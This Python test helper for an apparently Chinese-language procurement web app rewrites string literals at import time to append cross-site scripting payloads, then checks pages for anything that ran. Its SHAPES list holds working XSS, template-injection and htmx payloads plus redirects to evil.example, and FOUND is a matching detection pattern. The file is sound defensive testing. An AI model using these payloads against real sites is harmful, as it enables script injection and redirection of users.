"""The stage as an attacker would fill it: every text that people typed there is followed by something that would act.

`with spiked():` every module of the stage and of the tests' makers is read with each of its Chinese texts spiked. So it
goes the way of people's words, through services, rules, the ledger and mails, onto every page and into every file, and
the same text is spiked alike wherever it stands. `FOUND` asks a page what acted, or stands there to act.
"""

import ast
import importlib.abc
import importlib.machinery
import re
import sys
import zlib
from collections.abc import Iterable, Iterator, Sequence
from contextlib import contextmanager
from types import ModuleType
from typing import Any

from tests.config.declaring import rows

SPIKED = ("scripts.stage", "tests.make.", "tests.cast")
CHINESE = re.compile("[\u4e00-\u9fff]")
# Words of ours that a text of the stage chooses among: nobody types them. A new one is refused while the stage is set.
CHOSEN = frozenset({"中级", "A-it、C-law", "测绘资质", "乙级", "注册测绘师", "政府采购法 第46条"})
OUT = "\"'><x-ss>"  # out of an attribute in either quotes, and an element that nothing of ours has
SHORT = 9  # letters: names, grades, units have no room for more than the way out
MARK = "xss(1)"
# One for each text, in turn: what browsers, htmx, spreadsheets and readers of Markdown would obey.
SHAPES = (
    f"<script>{MARK}</script>",
    f"<img src=x onerror={MARK}>",
    f"<svg onload={MARK}></svg>",
    f'" onfocus={MARK} autofocus x="',
    f"' onmouseover={MARK} x='",
    f"</script><script>{MARK}</script>",
    f"</textarea></title><img src=x onerror={MARK}>",
    f'<a href="javascript:{MARK}">x</a>',
    f"{{{{{MARK}}}}}{{% debug %}}${{{MARK}}}",
    f'"}};{MARK};//</script><x-ss>',
    "</style><style>*{background:url(//evil.example)}</style>",
    f'<b hx-get="/xss" hx-trigger="load" hx-on:load="{MARK}">x</b>',
    f"[x](javascript:{MARK})",
    f"\u2028{MARK}\u2029",
    f"\u202e{MARK}\u202c<iframe srcdoc='<script>{MARK}</script>'>",
    f"<!--<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>{MARK}",
)
# What acted, and what is on the page to act: an element or attribute that can only have come out of a text.
FOUND = """() => [
  ...(window.xssed || []),
  ...[...document.querySelectorAll(`
    x-ss, [hx-get='/xss'], [onerror], [onload], [onfocus], [onmouseover], iframe[srcdoc], base,
    meta[http-equiv=refresh], [href^='javascript:' i], [src^='javascript:' i], [action^='javascript:' i]
  `)].map((one) => one.outerHTML.slice(0, 90)),
]"""
# All that is read on a page, in its fields as well.
READ = """() => document.body.textContent +
  [...document.querySelectorAll("input, textarea, [title], [aria-label]")].map(
    (one) => `${one.value} ${one.title} ${one.ariaLabel}`)"""
WATCH = f"window.xssed = []; window.{MARK.partition('(')[0]} = () => window.xssed.push('ran');"

# Pages on which stands nothing that people typed: the house's own words, empty forms and lists, codes.
PLAIN = frozenset({
    "api", "authenticator", "certificate", "complaints-guide", "complaints-route", "credit-rules", "expert-enter",
    "flags-played", "help", "help-citizen", "help-expert", "help-holder", "help-officer", "help-provider",
    "help-supervisor", "house-agreement", "house-choose", "house-confirm-buyer", "house-confirm-provider",
    "house-enter", "house-rules", "invitations", "login", "lost", "missing", "open-data", "paper", "reaching-mail",
    "second", "second-new", "sign-up", "sign-up-code", "sign-up-firm", "statistics", "terms", "tips-read",
    "trade-none", "transactions", "verify", "verify-receipt", "verify-scripts",
})  # fmt: skip


MARKED = re.compile(f"(.{{0,24}}?){re.escape(OUT)}")


def marks(text: str) -> set[str]:
    """What stands before each attack in a text: by it one knows a text again where it is read."""
    return {found[1] for found in MARKED.finditer("".join(text.split()))}


def unread(held: dict[str, list[str]], wanted: Iterable[str], read: Iterable[str]) -> list[str]:
    """Which columns were to be read and were not.  held: what stands before the attacks in each column.  read: before
    those on the pages, where other words may stand before it."""
    ends = {mark[n:] for mark in read for n in range(len(mark))}
    return [column for column in wanted if not any(mark in ends for mark in held.get(column, ()))]


def astray(held: dict[str, list[str]], read: Iterable[str], filed: Iterable[str]) -> list[str]:
    """What `declared/texts.txt` says of where the texts go and is not so.  read, filed: before those on the pages, and
    in the other answers."""
    goes = {column: row[0] for column, (_, *row) in rows("texts").items() if row}
    unseen, unfiled = set(unread(held, goes, read)), set(unread(held, goes, filed))
    return [
        wrong
        for column, where in goes.items()
        for wrong, is_so in (
            (f"{column} is read on no page", where == "read" and column in unseen),
            (f"{column} is filed in no answer", where == "filed" and column in unfiled),
            (f"{column} is read on a page: {where}", where != "read" and column not in unseen),
            (f"{column} is filed in an answer: {where}", where.startswith("kept") and column not in unfiled),
        )
        if is_so
    ]


def spiked_text(text: str) -> str:
    """The text with what would act behind it: always the same for the same text; once only."""
    if OUT in text or text in CHOSEN or not CHINESE.search(text):
        return text
    stem, dot, sort = text.rpartition(".")
    if dot and sort.isascii() and sort.isalnum():  # the name of a file
        return f"{stem}{OUT}.{sort}"
    return text + OUT + (SHAPES[zlib.crc32(text.encode()) % len(SHAPES)] if len(text) > SHORT else "")


class _Spiking(ast.NodeTransformer):
    """Every Chinese text of a module that is a value; what documents it, or stands within a longer one, stays."""

    def visit_JoinedStr(self, node: ast.JoinedStr) -> ast.AST:
        last = node.values[-1]
        if isinstance(last, ast.Constant) and CHINESE.search(str(last.value)):
            last.value = spiked_text(str(last.value))
        return node

    def visit_Expr(self, node: ast.Expr) -> ast.AST:
        return node if isinstance(node.value, ast.Constant) else self.generic_visit(node)

    def visit_Constant(self, node: ast.Constant) -> ast.AST:
        return ast.copy_location(ast.Constant(spiked_text(node.value)), node) if isinstance(node.value, str) else node


class _Loader(importlib.machinery.SourceFileLoader):
    def get_code(self, fullname: str) -> Any:
        """From the source alone: what is kept compiled is not spiked."""
        path = self.get_filename(fullname)
        tree = _Spiking().visit(ast.parse(self.get_data(path)))
        return compile(ast.fix_missing_locations(tree), path, "exec")


class _Finder(importlib.abc.MetaPathFinder):
    def find_spec(
        self, fullname: str, path: Sequence[str] | None, target: ModuleType | None = None
    ) -> importlib.machinery.ModuleSpec | None:
        if not fullname.startswith(SPIKED):
            return None
        found = importlib.machinery.PathFinder.find_spec(fullname, path, target)
        if found and found.origin:
            found.loader = _Loader(fullname, found.origin)
        return found


@contextmanager
def spiked() -> Iterator[None]:
    """What is imported in the block from the stage and the makers is spiked."""
    finder = _Finder()
    sys.meta_path.insert(0, finder)
    yield
    sys.meta_path.remove(finder)
